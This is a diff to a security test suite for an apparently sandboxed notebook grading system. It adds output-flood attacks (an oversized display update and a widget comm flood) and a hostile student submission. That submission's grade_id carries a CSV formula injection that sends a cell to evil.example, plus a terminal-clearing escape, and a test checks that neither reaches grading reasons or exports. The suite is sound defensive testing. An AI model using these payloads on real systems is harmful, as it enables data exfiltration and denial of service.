@@ -18,6 +18,7 @@ import textwrap
 import threading
 from pathlib import Path
 
+import nbformat
 import psutil
 import pytest
 
@@ -233,6 +234,15 @@ ATTACKS = {
         for _ in range(6000):
             print("x" * 1000)
     """, "solution", FULL, "output"),
+    "display_update_flood": ("""
+        _handle = display({"text/plain": "x"}, raw=True, display_id=True)
+        _handle.update({"text/plain": "B" * 6 * 2**20}, raw=True)
+    """, "solution", FULL, "output"),
+    "widget_flood": ("""
+        from comm import create_comm
+        for _ in range(3):
+            create_comm(target_name="jupyter.widget", data={"state": {"value": "B" * 3 * 2**20}, "buffer_paths": []})
+    """, "solution", FULL, "output"),
     "cpu_hog": ("""
         while True:
             try:
@@ -314,6 +324,13 @@ def _submit_class(course, listener, with_attacks: bool) -> dict:
         submit_files(course, Submission(AID, "shadow_module"),
                      {**notebook_files(solution, AID), "numpy.py": b"raise ImportError('shadowed numpy')\n"})
         expected["shadow_module"] = (FULL, None)
+        # a cell whose grade_id nbgrader's log quotes: text meant to become a spreadsheet formula and to
+        # clear the instructor's terminal
+        hostile = copy.deepcopy(solution)
+        hostile.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
+            "grade": True, "solution": False, "locked": False, "task": False, "points": 1, "schema_version": 3,
+            "grade_id": 'SubmissionTimeout: =HYPERLINK("http://evil.example/?"&B3)\x1b[2J\n'}}))
+        submit_files(course, Submission(AID, "hostile_grade_id"), notebook_files(hostile, AID))
     return expected
 
 
@@ -393,3 +410,14 @@ def test_the_listener_received_nothing(sandboxed):
 
 def test_unsandboxed_probe_reached_the_listener(unsandboxed):
     assert unsandboxed["listener"].received, "the unsandboxed network probe should have connected"
+
+
+def test_text_a_student_wrote_never_becomes_a_reason(sandboxed):
+    from kdcourse.grading.export import export
+
+    status = sandboxed["status"]["hostile_grade_id"]
+    words = " ".join(status.reasons + status.notes)
+    assert "HYPERLINK" not in words and "\x1b" not in words and "evil" not in words
+    csv_path, _ = export(sandboxed["course"], log=lambda *_: None)
+    text = csv_path.read_text(encoding="utf-8")
+    assert ",=" not in text and "\x1b" not in text
